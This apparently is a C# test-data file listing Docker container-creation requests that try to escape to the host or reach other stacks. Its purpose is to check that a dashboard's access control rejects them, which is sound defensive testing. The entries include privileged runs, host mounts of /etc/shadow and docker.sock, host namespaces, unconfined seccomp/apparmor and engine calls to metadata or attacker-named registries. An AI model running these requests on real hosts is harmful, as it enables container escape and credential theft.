namespace Dashboard.Engine.Tests.Access;

/// <summary>
/// Requests that try to reach the host, or a neighbour, through a new container. {i} is an image, {theirs} a container out of scope (and
/// {theirs-id} its id), {their-net}, {their-vol} a network and a volume out of scope, {host-vol} a volume that is a mount of the host,
/// {labelled} an image with a label of another stack, {root} a folder that may be bound and {deep} one to read only; both hold
/// folders, and links that lead to the host's /etc and to the engine's socket.
/// </summary>
internal static class EscapeLines
{
    private static readonly string[] _capabilities =
    [
        "ALL", "RESET", "AUDIT_CONTROL", "AUDIT_READ", "BLOCK_SUSPEND", "BPF", "CHECKPOINT_RESTORE", "DAC_READ_SEARCH", "IPC_LOCK", "IPC_OWNER", "LEASE", "LINUX_IMMUTABLE", "MAC_ADMIN", "MAC_OVERRIDE",
        "NET_ADMIN", "NET_BROADCAST", "PERFMON", "SYSLOG", "SYS_ADMIN", "SYS_BOOT", "SYS_MODULE", "SYS_NICE", "SYS_PACCT", "SYS_PTRACE", "SYS_RAWIO", "SYS_RESOURCE", "SYS_TIME", "SYS_TTY_CONFIG", "WAKE_ALARM",
    ];

    private static readonly string[] _hostPaths =
    [
        "/", "//", "/.", "/./", "/..", "/etc", "/etc/shadow", "/root/.ssh", "/proc", "/proc/1/root", "/proc/self/root", "/sys", "/sys/fs/cgroup", "/dev", "/dev/mem", "/boot", "/home", "/tmp", "/var", "/var/lib/docker",
        "/var/run/docker.sock", "/run/docker.sock", "/run", "/run/containerd/containerd.sock", "/usr", "/lib/modules", "/var/log", "/srv", "{root}/..", "{root}/../..", "{root}/sub", "{root}/./", "{root}//", "{root}extra", "{root}/../../etc",
        "{deep}/../..", "{deep}/a/../../../etc", "{deep}extra", "{deep}/a", "{root}/etc", "{root}/docker.sock", "{root}/sub/etc", "{root}/etc/shadow", "{deep}/etc", "{deep}/a/etc", "{deep}/docker.sock", "{deep}/etc/", "{deep}/./etc", "{linked}", "{linked}/sub", "/etc/../{root}", "/mnt",
    ];

    /// <summary>Everything, each line once.</summary>
    public static IReadOnlyList<string> All { get; } = [.. Lines().Distinct(StringComparer.Ordinal)];

    private static IEnumerable<string> Lines()
    {
        string[] options =
        [
            .. _capabilities.SelectMany(c => (string[])[$"--cap-add {c}", $"--cap-add cap_{c.ToLowerInvariant()}"]),
            .. _hostPaths.SelectMany(Binds), .. Writable("{deep}"), .. Devices(), .. Volumes(), .. Namespaces(), .. Security(), .. Logs(), .. Labels(), .. VolumeLabels(), .. Addresses(), .. Rest(),
        ];
        return options.Select(o => $"create {o} {{i}}").Concat(Registries()).Append("create {labelled}").Append("run -d --rm {labelled}").Append("run -d --privileged {i} sleep 60")
            .Append("run --rm -v /:/host {i} cat /host/etc/shadow").Append("create --name escape --pid=host {i}");
    }

    private static IEnumerable<string> Binds(string path) =>
    [
        $"-v {path}:/host", $"-v {path}:/host:ro", $"-v {path}:/host:rshared", $"--mount type=bind,src={path},dst=/host", $"--mount type=bind,source={path},target=/host,readonly", $"--mount type=BIND,src={path},dst=/host",
    ];

    private static IEnumerable<string> Writable(string path) => [$"-v {path}:/host", $"-v {path}:/host:rw", $"--mount type=bind,src={path},dst=/host", $"--mount type=bind,src={path},dst=/host,ro=false", $"--mount type=bind,src={path},dst=/host,readonly,bind-recursive=writable"];

    private static IEnumerable<string> Devices() =>
    [
        .. ((string[])["/dev/sda", "/dev/mem", "/dev/kmsg", "/dev/kvm", "/dev/fuse", "/dev/null", "/dev/net/tun", "/dev/loop-control"]).SelectMany(d => (string[])[$"--device {d}", $"--device {d}:/dev/x:rwm", $"--device {d}:r"]),
        "--device-cgroup-rule 'a *:* rwm'", "--device-cgroup-rule 'b 8:0 rwm'", "--device-cgroup-rule 'c 1:1 r'", "--gpus all", "--gpus 1", "--gpus driver=cdi,device=vendor.com/class=name", "--blkio-weight-device /dev/sda:500",
        "--device-read-bps /dev/sda:1", "--device-write-bps /dev/sda:1", "--device-read-iops /dev/sda:1", "--device-write-iops /dev/sda:1",
    ];

    private static IEnumerable<string> Volumes() =>
    [
        .. ((string[])["/", "/etc", "/var/run", "/proc/1/root"]).SelectMany(p => (string[])
        [
            $"--mount 'type=volume,dst=/host,volume-driver=local,volume-opt=type=none,volume-opt=o=bind,volume-opt=device={p}'",
            $"--mount 'type=volume,src=esc-new,dst=/host,\"volume-opt=o=bind,rw\",volume-opt=type=none,volume-opt=device={p}'", $"--mount 'src=esc-new2,dst=/host,volume-opt=o=rbind,volume-opt=device={p}'",
        ]),
        "--mount type=volume,dst=/x,volume-opt=type=nfs,volume-opt=o=addr=10.0.0.1,volume-opt=device=:/", "--mount type=volume,src=esc-new,dst=/x,volume-driver=rclone", "--mount type=volume,src=esc-new,dst=/x,volume-driver=vieux/sshfs",
        "--volume-driver rclone -v esc-new:/x", "--volume-driver other -v /x", "-v {host-vol}:/host", "-v {host-vol}:/host:ro", "--mount type=volume,src={host-vol},dst=/host", "--mount src={host-vol},dst=/host,volume-subpath=etc",
        "-v {their-vol}:/x", "-v {their-vol}:/x:ro", "--mount type=volume,src={their-vol},dst=/x", "--mount src={their-vol},dst=/x,volume-label=com.docker.compose.project=shop", "--volumes-from {theirs}", "--volumes-from {theirs}:ro",
        "--volumes-from {theirs-id}", "--volumes-from /{theirs}", "-v ../../etc:/x", "-v ./x:/x", "-v ~/x:/x", "-v '..':/x", "-v esc/../x:/x", "-v 'a b:/x'", "--mount type=volume,src=../../etc,dst=/x", "--mount type=volume,src=/etc,dst=/x",
        "--mount type=npipe,src=//./pipe/docker_engine,dst=/x", "--mount type=cluster,src=x,dst=/x", "--mount type=image,src={i},dst=/x", "--mount type=foo,src=/etc,dst=/x", "--mount type=bind,src={root},dst=/x,bind-propagation=rshared",
        "--mount type=bind,src={root},dst=/x,bind-propagation=slave", "-v {root}:/x:shared", "-v {root}:/x:rslave", "-v {root}:/x:z", "-v {root}:/x:Z", "-v {root}:/x:ro:extra", "--mount src=ok,dst=/x,volume-subpath=../../..",
    ];

    private static IEnumerable<string> Namespaces() =>
    [
        .. ((string[])["network", "pid", "ipc"]).SelectMany(n => (string[])
            [$"--{n} host", $"--{n} container:{{theirs}}", $"--{n} container:{{theirs-id}}", $"--{n} container:/{{theirs}}", $"--{n} container:no-such", $"--{n} container:../x", $"--{n} container:"]),
        "--net host", "--net=host", "--network name=host", "--network name=host,alias=a", "--network bridge --network host", "--network {their-net}", "--network name={their-net},alias=db", "--network {their-net} --ip 10.231.8.9",
        "--network bridge --network {their-net}", "--network ns:/proc/1/ns/net", "--network /proc/1/ns/net", "--network ../x", "--network HOST", "--network no-such", "--uts host", "--userns host", "--cgroupns host", "--ipc host --pid host --uts host",
        "--link {theirs}", "--link {theirs}:x", "--link {theirs-id}:x", "--network name=bridge,driver-opt=com.docker.network.endpoint.sysctls=x", "--cgroup-parent /", "--cgroup-parent system.slice", "--cgroup-parent ../../x", "--pid HOST", "--ipc ns:/proc/1/ns/ipc",
    ];

    private static IEnumerable<string> Security() =>
    [
        "--privileged", "--privileged=true", "--privileged --cap-drop ALL", "--security-opt seccomp=unconfined", "--security-opt seccomp:unconfined", "--security-opt apparmor=unconfined", "--security-opt apparmor:unconfined", "--security-opt apparmor=docker-other",
        "--security-opt label=disable", "--security-opt label:disable", "--security-opt label=user:root", "--security-opt label=type:spc_t", "--security-opt systempaths=unconfined", "--security-opt no-new-privileges=false",
        "--security-opt no-new-privileges:false", "--security-opt no-new-privileges --security-opt seccomp=unconfined", "--security-opt seccomp=/etc/passwd", "--security-opt seccomp=builtin --security-opt apparmor=unconfined", "--security-opt writable-cgroups=true",
        "--sysctl net.ipv4.ip_forward=1", "--sysctl kernel.shmmax=1", "--sysctl net.core.somaxconn=1", "--sysctl fs.mqueue.msg_max=1", "--sysctl kernel.core_pattern=x", "--sysctl kernel.sem=1", "--runtime runsc", "--runtime other", "--runtime runc", "--runtime io.containerd.runc.v2",
    ];

    private static IEnumerable<string> Logs() =>
    [
        .. ((string[])["syslog", "gelf", "fluentd", "awslogs", "gcplogs", "splunk", "journald", "etwlogs", "logentries", "my/plugin:latest"]).Select(d => $"--log-driver {d}"),
        "--log-driver syslog --log-opt syslog-address=tcp://10.0.0.1:514", "--log-driver syslog --log-opt syslog-address=unixgram:///var/run/docker.sock", "--log-driver gelf --log-opt gelf-address=udp://169.254.169.254:1", "--log-driver fluentd --log-opt fluentd-address=unix:///run/x",
        "--log-opt path=/etc/x", "--log-driver json-file --log-opt cache-disabled=true --log-opt file=/etc/x", "--log-opt syslog-address=tcp://10.0.0.1:1",
    ];

    private static IEnumerable<string> Labels() =>
    [
        "--label com.docker.compose.project=bank", "--label com.docker.compose.project=", "--label com.docker.compose.project", "--label com.docker.compose.project=shop --label com.docker.compose.project=bank", "--label com.docker.compose.project=shop2", "--label com.docker.compose.project=SHOP",
        "--label 'com.docker.compose.project=bank '",
    ];

    // A new volume, named or not, and one that is there already.
    private static IEnumerable<string> VolumeLabels() =>
        from source in (string[])["", "src=esc-forged,", "src={their-vol},"]
        from type in (string[])["type=volume,", ""]
        from label in (string[])["=bank", "=", "", "=shop,volume-label=com.docker.compose.project=bank", "=SHOP"]
        select $"--mount {type}{source}dst=/x,volume-label=com.docker.compose.project{label}";

    // Addresses that the engine itself, and not the container, would be made to contact.
    private static IEnumerable<string> Addresses() =>
    [
        .. ((string[])["127.0.0.1", "127.0.0.53", "0.0.0.0", "::1", "::", "169.254.169.254", "fe80::1", "224.0.0.251", "::ffff:127.0.0.1"]).Select(a => $"--dns {a}"),
        .. ((string[])["tcp://127.0.0.1:514", "udp://169.254.169.254:1", "unixgram:///var/run/docker.sock", "tcp://registry.internal:1", "tcp+tls://[::1]:1"]).SelectMany(a => (string[])
            [$"--log-driver syslog --log-opt syslog-address={a}", $"--log-driver gelf --log-opt gelf-address={a}", $"--log-driver fluentd --log-opt fluentd-address={a}", $"--log-driver splunk --log-opt splunk-url={a}", $"--log-opt syslog-address={a}", $"--log-driver json-file --log-opt fluentd-address={a}"]),
        .. ((string[])["127.0.0.1", "10.0.0.1", "nfs.internal"]).SelectMany(a => (string[])
        [
            $"--mount type=volume,src=esc-nfs,dst=/x,volume-opt=type=nfs,\"volume-opt=o=addr={a},rw\",volume-opt=device=:/", $"--mount type=volume,dst=/x,volume-opt=type=cifs,volume-opt=o=addr={a},volume-opt=device=//{a}/c$",
        ]),
    ];

    // An image that is not there is asked for at the host that its name begins with.
    private static IEnumerable<string> Registries() =>
        from host in (string[])["127.0.0.1:1", "localhost", "localhost:5000", "[::1]:5000", "10.0.0.1", "169.254.169.254", "registry.internal:5000", "quay.example", "docker.io.evil.example", "index.docker.io.evil.example", "2130706433.example:80"]
        from pull in (string[])["", "--pull always "]
        select $"create {pull}{host}/x/y:1";

    private static IEnumerable<string> Rest() =>
    [
        "--ulimit rtprio=99", "--ulimit rtprio=0:99", "--ulimit rtprio=-1", "--ulimit nice=40", "--ulimit nice=0:40", "--ulimit nofile=10 --ulimit rtprio=1", "--tmpfs /x:bind", "--tmpfs /x:rshared", "--tmpfs /x:remount", "--tmpfs /x:slave",
        "--oom-kill-disable", "--oom-kill-disable -m 64m", "--oom-score-adj -1", "--oom-score-adj -1000", "--oom-score-adj=-500", "--cpu-rt-runtime 95000", "--cpu-rt-period 1000000", "--storage-opt overlay2.size=1", "--storage-opt dm.basesize=1", "--annotation a=b", "--storage-opt foo=bar",
    ];
}
